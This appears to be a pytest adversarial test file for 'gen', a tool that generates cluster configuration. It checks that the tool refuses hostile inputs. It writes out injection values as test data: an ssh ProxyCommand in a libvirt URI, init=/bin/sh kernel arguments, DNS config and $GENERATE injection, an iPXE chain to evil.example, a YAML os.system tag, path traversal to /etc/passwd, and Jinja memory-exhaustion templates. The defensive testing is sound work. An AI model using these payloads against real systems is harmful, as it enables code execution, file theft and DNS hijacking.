"""Issue 14, the final adversarial pass: new attempts, at least two per class of the issue,
none of them already in tests/hostile/. Each runs the real CLI on a scratch copy of the repo
and asserts the exit code, the exact one-line error (or, where gen accepts the value, that
the real checker accepts the escaped output and its structure did not grow), and that
nothing was written outside the output.

Attempts that escaped when this pass was written, and were fixed with it:
- `services.pxe.kernelArgs: [init=/bin/sh]` (and `rdinit=`, `rd.break`, ...) validated and
  rendered: every PXE-booted node would have run the pull request's program as PID 1;
- `gen diff --base 'HEAD:../../../etc'` exited 70 (GitPython's KeyError);
- a blueprint template with `{% include '../../etc/passwd' %}` or `range(10**9)` exited 70,
  and `'x' * 10**10` or `|center(2000000000)` exhausted memory (the Jinja sandbox stops
  Python's internals, not work).
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest
from clirun import gen
from fstree import snapshot
from test_hostile_output import _dnsmasq_shape, _zone_shape, check_dnsmasq, zone_records

ROOT = Path(__file__).resolve().parent.parent
LAB = "environments/lab/env.yaml"
BIND = "services:\n  dns:\n    provider: bind\n"
WORKER1 = ("  - {name: worker1, role: worker, hypervisor: hv1, nics: [{network: lan, "
           "ip: 192.168.20.162}]}\n")
KERNEL = ("  - {name: worker0, role: worker, hypervisor: hv1, nics: [{network: lan, "
          "ip: 192.168.20.161}]}\n")
STREAM = "    rhcos-live-kernel:\n      stream: {file: rhcos-4.16.json, artifact: kernel}\n"
URI = "    uri: qemu:///system\n"
URI_HINT = ("(write it like qemu:///system or qemu+ssh://root@hv1/system (a key or known_hosts "
            "file: --uri-override); transports ssh, libssh, libssh2, tls, tcp, unix only)")
NAME_HINT = ("(use lowercase letters, digits and '-', at most 63 characters, starting and "
             "ending with a letter or digit (RFC 1123))")
ONE_LINE_HINT = ("(write it on one line, without control characters; a TXT value may hold any "
                 "other text)")
KARG_HINT = ("(one argument per list item, like console=ttyS0: letters, digits and "
             "_.,:/=+@%- only, no spaces, quotes, ';' or '$')")
SANDBOX_HINT = "(templates may only insert cookiecutter.NAME values)"


def _edit(repo: Path, old: str, new: str, path: str = LAB) -> None:
    file = repo / path
    text = file.read_text()
    assert text.count(old) == 1, old
    file.write_text(text.replace(old, new))


def _refused(repo: Path, expected: list[str], *verbs: str, code: int = 1) -> None:
    """Every verb exits `code` with exactly `expected` on stderr and writes nothing."""
    before = snapshot(repo)
    for verb in verbs or ("validate", "render"):
        result = gen(*verb.split(), "env/lab", cwd=repo)
        assert result.code == code, (verb, result)
        assert result.err.strip().splitlines() == expected, (verb, result.err)
    assert snapshot(repo) == before, "nothing is written"


# Attempts that must be refused at validate (and render), with the line gen prints.
# (class, id, old text of lab A's env.yaml, new text, the expected line)
REFUSED = [
    # -- code execution -----------------------------------------------------------------
    ("code", "uri-ssh-host-is-an-option", URI,
     "    uri: \"qemu+ssh://-oProxyCommand=touch${IFS}/tmp/gen-adv-pwn/system\"\n",
     "environments/lab/env.yaml:32:10: at hypervisors[0].uri: 'qemu+ssh://-oProxyCommand="
     "touch${IFS}/tmp/gen-adv-pwn/sy... is not a libvirt URI gen accepts " + URI_HINT),
    ("code", "uri-transport-upper-case", URI, "    uri: \"QEMU+EXT:///system?command=/tmp/x\"\n",
     "environments/lab/env.yaml:32:10: at hypervisors[0].uri: 'QEMU+EXT:///system?command=/tmp"
     "/x' is not a libvirt URI gen accepts " + URI_HINT),
    ("code", "uri-parameter-upper-case", URI, "    uri: \"qemu+ssh://h/system?COMMAND=/tmp/x\"\n",
     "environments/lab/env.yaml:32:10: at hypervisors[0].uri: libvirt URI 'qemu+ssh://h/system"
     "?COMMAND=/tmp/x' has query parameter 'COMMAND', which gen does not allow (write it like "
     "qemu:///system or qemu+ssh://root@hv1/system; a key or known_hosts file is the "
     "operator's: --uri-override hv1=URI; allowed parameters: mode, no_tty, sshauth, "
     "tls_priority)"),
    ("code", "uri-parameter-percent-encoded", URI,
     "    uri: \"qemu+ssh://h/system?%63ommand=/tmp/x\"\n",
     "environments/lab/env.yaml:32:10: at hypervisors[0].uri: 'qemu+ssh://h/system?%63ommand="
     "/tmp/x' is not a libvirt URI gen accepts " + URI_HINT),
    ("code", "kernel-arg-init", "services:\n",
     "services:\n  pxe:\n    kernelArgs: [console=tty0, init=/bin/sh]\n",
     "environments/lab/env.yaml:50:32: at services.pxe.kernelArgs[1]: kernel argument 'init' "
     "runs a program or a shell on the node instead of the installer (debug a node from its "
     "console; gen never passes it)"),
    ("code", "kernel-arg-rd-break-upper-case", "services:\n",
     "services:\n  pxe:\n    kernelArgs: [RD.BREAK]\n",
     "environments/lab/env.yaml:50:18: at services.pxe.kernelArgs[0]: kernel argument "
     "'RD.BREAK' runs a program or a shell on the node instead of the installer (debug a node "
     "from its console; gen never passes it)"),
    # -- config injection (values the emitters never see) ----------------------------------
    ("injection", "txt-carriage-return-dnsmasq-conf-file", BIND,
     "services:\n  dns:\n    provider: dnsmasq\n    records: [{name: t, type: TXT, value: "
     "\"a\\rconf-file=/etc/shadow\"}]\n",
     "environments/lab/env.yaml:51:43: at services.dns.records[0].value: 'a\\rconf-file=/etc/"
     "shadow' is not a one-line record value " + ONE_LINE_HINT),
    ("injection", "txt-nul-byte", BIND,
     BIND + "    records: [{name: t, type: TXT, value: \"a\\0$INCLUDE /etc/shadow\"}]\n",
     "environments/lab/env.yaml:51:43: at services.dns.records[0].value: 'a\\x00$INCLUDE /etc/"
     "shadow' is not a one-line record value " + ONE_LINE_HINT),
    ("injection", "txt-next-line-generate", BIND,
     BIND + "    records: [{name: t, type: TXT, value: \"a\\N$GENERATE 1-9 h$ A 6.6.6.6\"}]\n",
     "environments/lab/env.yaml:51:43: at services.dns.records[0].value: 'a\\x85$GENERATE 1-9 "
     "h$ A 6.6.6.6' is not a one-line record value " + ONE_LINE_HINT),
    ("injection", "record-name-generate", BIND,
     BIND + "    records: [{name: \"$GENERATE\", type: A, value: 6.6.6.6}]\n",
     "environments/lab/env.yaml:51:22: at services.dns.records[0].name: '$GENERATE' is not a "
     "DNS record name (use dot-separated labels of lowercase letters, digits, '-' and '_', "
     "optionally after '*.')"),
    ("injection", "kernel-arg-line-separator-ipxe-chain", "services:\n",
     "services:\n  pxe:\n    kernelArgs: [\"x\\Lchain=http://evil.example/x\"]\n",
     "environments/lab/env.yaml:50:18: at services.pxe.kernelArgs[0]: 'x\\u2028chain=http://"
     "evil.example/x' is not a single kernel argument " + KARG_HINT),
    ("injection", "kernel-arg-tab-grub-source", "services:\n",
     "services:\n  pxe:\n    kernelArgs: [\"a\\tsource\"]\n",
     "environments/lab/env.yaml:50:18: at services.pxe.kernelArgs[0]: 'a\\tsource' is not a "
     "single kernel argument " + KARG_HINT),
    # -- writes outside the target --------------------------------------------------------
    ("writes", "artifact-name-dotdot", "    rhcos-live-kernel:\n",
     "    ../../../tmp/x:\n      url: https://e.example/x\n    rhcos-live-kernel:\n",
     "environments/lab/env.yaml:64:5: at artifacts.os: '../../../tmp/x' is not a valid name "
     + NAME_HINT),
    ("writes", "artifact-url-ftp", STREAM,
     "    rhcos-live-kernel:\n      url: \"ftp://evil.example/x\"\n",
     "environments/lab/env.yaml:65:12: at artifacts.os.rhcos-live-kernel.url: 'ftp://evil."
     "example/x' is not a URL (write an http:// or https:// URL, or file://PATH relative to "
     "the environment's folder, in printable ASCII (percent-encode any other character))"),
    # -- loader limits --------------------------------------------------------------------
    ("loader", "yaml-python-object-tag", "services:\n",
     "services:\n  pxe: !!python/object/apply:os.system [\"touch /tmp/gen-adv-pwn\"]\n",
     "environments/lab/env.yaml:49:8: at services.pxe: expected a mapping, got "
     "[\"touch /tmp/gen-adv-pwn\"]"),
    ("loader", "yaml-duplicate-key", "services:\n",
     "services:\n  pxe: {}\n  pxe: {installDev: /dev/sda}\n",
     "environments/lab/env.yaml:50:3: at services.pxe: duplicate key 'pxe' (keep one of the "
     "two entries)"),
    ("loader", "yaml-case-variant-key", "services:\n", "Services:\n  pxe: {}\nservices:\n",
     "environments/lab/env.yaml:49:3: at Services: unknown key 'Services' (did you mean "
     "'services'?)"),
    ("loader", "yaml-merge-key", "services:\n",
     "services:\n  pxe:\n    <<: {kernelArgs: [init=/bin/sh]}\n",
     "environments/lab/env.yaml:50:9: at services.pxe.<<: unknown key '<<' (allowed keys: "
     "installDev, interface, ipMode, kernelArgs, rootfs)"),
    ("loader", "very-long-line", BIND,
     BIND + "    records: [{name: t, type: TXT, value: \"" + "A" * 3_000_000 + "\"}]\n",
     "environments/lab/env.yaml:51:43: at services.dns.records[0].value: 'AAAAAAAAAAAAAAAAAAAA"
     "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA... is longer than 1024 characters"),
    # -- trailing newlines and other line ends ----------------------------------------------
    ("newline", "name-carriage-return", WORKER1, WORKER1.replace("worker1,", "\"worker1\\r\","),
     "environments/lab/env.yaml:46:12: at nodes[6].name: 'worker1\\r' is not a valid name "
     + NAME_HINT),
    ("newline", "name-next-line", WORKER1, WORKER1.replace("worker1,", "\"worker1\\N\","),
     "environments/lab/env.yaml:46:12: at nodes[6].name: 'worker1\\x85' is not a valid name "
     + NAME_HINT),
    ("newline", "name-fullwidth-letter", WORKER1, WORKER1.replace("worker1,", "\"\\uff57orker1\","),
     "environments/lab/env.yaml:46:12: at nodes[6].name: 'ｗorker1' is not a valid name "
     + NAME_HINT),
    ("newline", "ip-arabic-indic-digits", WORKER1,
     WORKER1.replace("192.168.20.162", "\"192.168.20.\\u0661\\u0666\\u0662\""),
     "environments/lab/env.yaml:46:78: at nodes[6].nics[0].ip: '192.168.20.١٦٢' is not an "
     "IPv4 address (write four decimal octets such as 192.168.20.10)"),
    # -- accepted but wrong -----------------------------------------------------------------
    ("wrong", "mac-duplicate-in-other-case", KERNEL + WORKER1,
     KERNEL.replace("161}", "161, mac: \"52:54:00:AA:BB:CC\"}")
     + WORKER1.replace("162}", "162, mac: \"52:54:00:aa:bb:cc\"}"),
     "environments/lab/env.yaml:46:99: at nodes[6].nics[0].mac: MAC address "
     "'52:54:00:aa:bb:cc' is already used at nodes[5].nics[0].mac (two NICs sharing a MAC "
     "cannot both get their DHCP lease)"),
    ("wrong", "cname-at-a-node-name", BIND,
     BIND + "    records: [{name: worker0, type: CNAME, value: api}]\n",
     "environments/lab/env.yaml:51:22: at services.dns.records[0].name: record 'worker0' "
     "collides with node 'worker0' (gen publishes every node's A and PTR records; choose "
     "another name)"),
    ("wrong", "a-record-hijacks-api", BIND,
     BIND + "    records: [{name: api, type: A, value: 6.6.6.6}]\n",
     "environments/lab/env.yaml:51:22: at services.dns.records[0].name: record 'api' collides "
     "with a name gen already publishes (choose another name; nodes, api, api-int and *.apps "
     "are generated)"),
]


@pytest.mark.parametrize("case", REFUSED, ids=[f"{c[0]}:{c[1]}" for c in REFUSED])
def test_refused(case: tuple[str, str, str, str, str], repo: Path) -> None:
    _, _, old, new, expected = case
    _edit(repo, old, new)
    _refused(repo, [expected])
    assert not Path("/tmp/gen-adv-pwn").exists()


def test_every_class_has_two_new_attempts() -> None:
    classes = {c[0] for c in REFUSED} | set(ACCEPTED_ELSEWHERE)
    for name in ("code", "injection", "secrets", "writes", "template", "loader", "newline",
                 "wrong", "robustness"):
        count = sum(c[0] == name for c in REFUSED) + ACCEPTED_ELSEWHERE.get(name, 0)
        assert count >= 2, name
    assert len(classes) == 9


# Attempts below need more than validate; the count per class, for the test above.
ACCEPTED_ELSEWHERE = {"injection": 2, "secrets": 2, "writes": 3, "template": 4,
                      "robustness": 3, "loader": 1}


# -- config injection that gen accepts: escaped, checked by the real checker --------------

def _render(repo: Path) -> Path:
    result = gen("render", "env/lab", cwd=repo)
    assert result.code == 0, result.err
    return repo / "rendered" / "lab"


def test_bind_generate_in_a_one_line_txt_is_one_txt_record(repo: Path, tmp_path: Path) -> None:
    """`$GENERATE` in a TXT value on one line: still one TXT record, named-checkzone agrees."""
    zone = "hosts/helper/dns/zones/ocp4.example.com.zone"
    records = {}
    for label, value in (("clean", "hello"), ("hostile", "$GENERATE 1-100 h$ A 6.6.6.6")):
        copy = tmp_path / label
        shutil.copytree(repo, copy)
        _edit(copy, BIND, BIND + f"    records: [{{name: t, type: TXT, value: '{value}'}}]\n")
        text = (_render(copy) / zone).read_text()
        (tmp_path / f"{label}.zone").write_text(text)
        records[label] = (zone_records(tmp_path / f"{label}.zone", "ocp4.example.com"),
                          _zone_shape(text))
    assert records["hostile"] == records["clean"]
    assert not any(r.startswith("h1.") for r in records["hostile"][0])


def test_dnsmasq_conf_file_after_a_comma_stays_in_the_txt(repo: Path, tmp_path: Path) -> None:
    """`x,conf-file=/etc/shadow` in a dnsmasq TXT: one txt-record, dnsmasq --test passes."""
    _edit(repo, BIND, "services:\n  dns:\n    provider: dnsmasq\n    records: [{name: t, "
          "type: TXT, value: 'x,conf-file=/etc/shadow'}]\n")
    out = _render(repo)
    text = (out / "hosts/helper/dnsmasq/dns.conf").read_text()
    assert not any(line.startswith("conf-file") for line in text.splitlines())
    assert ("txt-record", 2) in _dnsmasq_shape(text)  # the name and one quoted string
    check_dnsmasq({f"hosts/helper/dnsmasq/{p.name}": p.read_bytes()
                   for p in (out / "hosts/helper/dnsmasq").iterdir()}, "helper", tmp_path)


# -- secrets: a reference cannot move one secret into another's public place ---------------

PULL_SECRET = '{"auths": {"registry.example.com": {"auth": "VE9QU0VDUkVUOnZhbHVl"}}}'


@pytest.mark.parametrize("ref", ["{file: pull-secret}", "{env: GEN_SECRET_PULL}"])
def test_ssh_key_reference_to_the_pull_secret_is_refused(repo: Path, tmp_path: Path,
                                                         ref: str) -> None:
    """The pull secret is declared for install-config only; pointing an SSH key (published in
    Ignition over HTTP) at the same file or variable is refused by its kind."""
    secrets = tmp_path / "secrets"
    secrets.mkdir()
    (secrets / "pull-secret").write_text(PULL_SECRET)
    _edit(repo, "    - {file: id_rsa.pub}\n", f"    - {ref}\n")
    root = tmp_path / "root"
    env = {**os.environ, "GEN_SECRETS_DIR": str(secrets), "GEN_SECRET_PULL": PULL_SECRET}
    result = gen("converge", "env/lab", "--auto-approve", "--provider", "files",
                 "--files-target", f"helper={root}", "--state-dir", str(tmp_path / "state"),
                 cwd=repo, env=env)
    assert result.code == 1, result
    where = "file pull-secret" if "file" in ref else "environment variable GEN_SECRET_PULL"
    assert result.err.strip().splitlines()[-1] == (
        f"secret 'sshAuthorizedKeys[0]' ({where}) is not one OpenSSH public key line, so it is "
        "not published (point sshAuthorizedKeys at a public key such as id_ed25519.pub in the "
        "secrets directory)")
    served = b"".join(p.read_bytes() for p in root.rglob("*") if p.is_file())
    assert b"VE9QU0VDUkVU" not in served and "VE9QU0VDUkVU" not in result.out + result.err


# -- writes outside the target: a symlinked lock or lock directory -----------------------

@pytest.mark.parametrize("what", ["lock file", "lock directory"])
def test_symlinked_lock_is_not_written_through(repo: Path, tmp_path: Path, what: str) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "lab.lock").write_text("ORIGINAL\n")
    if what == "lock file":
        (repo / "lock" / "lab.lock").symlink_to(outside / "lab.lock")
    else:
        (repo / "lock").rmdir()
        (repo / "lock").symlink_to(outside)
    before = snapshot(outside)
    result = gen("lock", "--offline", "env/lab", cwd=repo,
                 env={**os.environ, "GEN_STORE": str(tmp_path / "store")})
    assert result.code == 4, result
    assert "symlink" in result.err.splitlines()[0]
    assert snapshot(outside) == before


def test_file_url_with_a_host_stays_in_the_environment_folder(repo: Path,
                                                               tmp_path: Path) -> None:
    """`file://localhost/etc/passwd` is the relative path localhost/etc/passwd beside
    env.yaml, never the host's /etc/passwd."""
    _edit(repo, STREAM, "    rhcos-live-kernel:\n      url: \"file://localhost/etc/passwd\"\n")
    result = gen("lock", "env/lab", cwd=repo, env={**os.environ,
                                                   "GEN_STORE": str(tmp_path / "store")})
    assert result.code == 1, result
    assert result.err.strip().splitlines() == [
        "os/rhcos-live-kernel: file:// URL 'localhost/etc/passwd' not found in lab/ or "
        "openshift-upi/ (ship the file beside env.yaml and name it relative to that folder)"]
    assert "root:" not in result.out + result.err
    assert not (tmp_path / "store").exists() or not any((tmp_path / "store").rglob("*.*"))


# -- template injection: gen new -----------------------------------------------------------

KOLLA_ANSWERS = "subnet: 10.40.0.0/24\ninternal_vip_host: 200\ncinder_size: 50GiB\n"
KOLLA_TEMPLATE = "blueprints/kolla-aio/template/{{cookiecutter.env_name}}/env.yaml"


@pytest.mark.parametrize("payload, expected", [
    ("{% include '../../../../../../etc/passwd' %}",
     "the template cannot be rendered: '../../../../../../etc/passwd'"),
    ("{{ range(999999999)|join }}", "the template does something gen's sandbox refuses: Range "
     "too big. The sandbox blocks ranges larger than MAX_RANGE (100000)."),
    ("{{ 'abcdefghij' * 999999999 }}", "the template needs more than 2 GiB of memory to render"),
    ("{{ 'x'|center(2000000000) }}", "the template needs more than 2 GiB of memory to render"),
], ids=["include-outside", "range", "string-times", "center-filter"])
def test_template_cannot_read_files_or_exhaust_memory(repo: Path, payload: str,
                                                      expected: str) -> None:
    template = repo / KOLLA_TEMPLATE
    template.write_text(f"# {payload}\n" + template.read_text())
    (repo / "answers.yaml").write_text(KOLLA_ANSWERS)
    before = snapshot(repo)
    result = gen("new", "x1", "--blueprint", "kolla-aio", "--answers", "answers.yaml",
                 cwd=repo)
    assert result.code == 1, result
    assert result.err.strip().splitlines() == [
        f"{repo / 'blueprints/kolla-aio/template'}: {expected} {SANDBOX_HINT}"]
    assert "root:" not in result.err
    assert snapshot(repo) == before


def test_answer_with_jinja_is_validated_not_rendered(repo: Path) -> None:
    (repo / "answers.yaml").write_text(KOLLA_ANSWERS.replace("50GiB", "'{{ 7*7 }}'"))
    before = snapshot(repo)
    result = gen("new", "x1", "--blueprint", "kolla-aio", "--answers", "answers.yaml",
                 cwd=repo)
    assert result.code == 1, result
    assert result.err.strip().splitlines() == [
        "answer cinder_size: '{{ 7*7 }}' is not a size (a whole number with MiB, GiB or TiB, "
        "such as 200GiB)"]
    assert snapshot(repo) == before


# -- robustness: a git ref that is an option or a path -----------------------------------

def _git_repo(repo: Path) -> None:
    for args in (["init", "-q"], ["add", "-A"],
                 ["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "base"]):
        subprocess.run(["git", *args], cwd=repo, check=True)


@pytest.mark.parametrize("base", ["--output=PROOF", "-OPROOF", "HEAD:../../../etc",
                                  "HEAD:environments"])
def test_diff_base_is_only_ever_a_revision(repo: Path, tmp_path: Path, base: str) -> None:
    _git_repo(repo)
    proof = tmp_path / "proof"
    base = base.replace("PROOF", str(proof))
    result = gen("diff", "env/lab", "--base", base, "--no-color", cwd=repo)
    assert result.code == 1, result
    assert result.err.strip().splitlines() == [
        f"unknown git revision '{base}' (pass a branch, tag or commit that exists locally "
        "(git fetch first))"]
    assert not proof.exists()


@pytest.mark.parametrize("content, expected", [
    ("", "environments/lab/env.yaml:1:1: missing required key 'blueprint' (name a folder of "
         "blueprints/, e.g. blueprint: openshift-upi)"),
    ("- a\n- b\n", "environments/lab/env.yaml:1:1: missing required key 'blueprint' (name a "
                   "folder of blueprints/, e.g. blueprint: openshift-upi)"),
], ids=["empty", "top-level-list"])
def test_env_file_of_the_wrong_shape_is_one_line(repo: Path, content: str,
                                                 expected: str) -> None:
    (repo / LAB).write_text(content)
    _refused(repo, [expected])
